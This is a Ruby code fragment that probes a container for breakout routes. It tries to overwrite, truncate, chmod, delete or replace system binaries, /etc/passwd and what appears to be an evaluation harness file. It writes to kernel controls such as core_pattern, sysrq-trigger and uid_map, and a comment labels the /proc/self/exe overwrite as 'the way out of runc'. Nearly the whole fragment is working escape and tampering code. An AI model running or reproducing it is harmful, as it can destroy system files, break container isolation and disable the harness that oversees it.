
PLACES = %w[/ /app /usr/bin /etc /harness /bundle /dev /lib /var /proc /proc/sys/kernel].freeze
TARGETS = %w[/app/main.rb /usr/bin/ruby /usr/bin/env /etc/passwd /harness/harness.rb /proc/self/exe /dev/init /dev/first /proc/1/exe].freeze
KERNEL = {
  "/proc/sys/kernel/hostname" => "x", "/proc/sys/kernel/core_pattern" => "|/tmp/x", "/proc/sys/vm/drop_caches" => "3", "/proc/sysrq-trigger" => "m",
  "/proc/sys/kernel/shmmax" => "1", "/proc/1/oom_score_adj" => "1000", "/proc/1/comm" => "x", "/proc/1/clear_refs" => "1",
  "/proc/self/gid_map" => "0 0 1", "/proc/self/uid_map" => "0 0 1"
}.freeze

def each_way(path)
  yield :open, attempt { File.open(path, "r+").close }
  yield :append, attempt { File.open(path, "a").close }
  yield :truncate, attempt { File.truncate(path, 0) }
  yield :mode, attempt { File.chmod(0o777, path) }
  yield :owner, attempt { File.chown(1000, 1000, path) }
  yield :times, attempt { File.utime(0, 0, path) }
  yield :attribute, sys(188, +path, +"user.x", +"x", 1, 0)
  yield :remove, attempt { File.unlink(path) }
  yield :rename, attempt { File.rename(path, "#{path}.old") }
  yield :replace, attempt { File.rename("/tmp/mine", path) }
end

ESCAPES = {
  "create" => lambda { |_|
    PLACES.to_h do |place|
      [place, [attempt { File.write("#{place}/escape", "x") }, attempt { Dir.mkdir("#{place}/escape") }, attempt { File.symlink("/tmp", "#{place}/escape") },
               attempt { File.open(place, File::RDWR | 0o20200000).close }, attempt { File.mkfifo("#{place}/escape") }, attempt { File.link("/tmp/mine", "#{place}/escape") }].uniq]
    end
  },
  "change" => lambda { |_|
    File.write("/tmp/mine", "x")
    TARGETS.to_h { |path| [path, enum_for(:each_way, path).to_a.select { |_, result| [nil, 0, 1, "allowed"].include?(result) }.map(&:first)] }
  },
  "kernel" => ->(_) { KERNEL.to_h { |path, text| [path, attempt { File.write(path, text) }] } },
  "mounts" => ->(_) { File.readlines("/proc/self/mountinfo").map { |line| line.split.values_at(4, 5) } },
  # The way out of runc: hold on to the interpreter's own file while another program takes its place.
  "own program" => lambda { |_|
    held = File.open("/proc/self/exe", "rb")
    again = attempt { File.open("/proc/self/fd/#{held.fileno}", "r+b").close }
    other = IO.popen(["sh", "-c", ": 2>/dev/null > /proc/$PPID/exe && echo written"]).read
    [again, other]
  },
  "links" => lambda { |_|
    { hard: attempt { File.link("/etc/passwd", "/tmp/passwd") }, to_memory: attempt { File.symlink("/proc/1/mem", "/tmp/memory") && File.open("/tmp/memory", "r+").close } }
  },
  # Executing the interpreter anew gives nothing back.
  "again" => lambda { |_|
    told = IO.popen(["/proc/self/exe", "--disable-all", "-e", "puts File.read('/proc/self/status'); begin; syscall(165, +'/app', +'/tmp', +'', 4096, 0); rescue => e; puts e.class; end"], &:read)
    told.scan(/^(?:CapEff|CapPrm|NoNewPrivs|Seccomp):\t(\h+)$/).flatten + told.scan(/^Errno::\w+$|^0$/)
  }
}.freeze
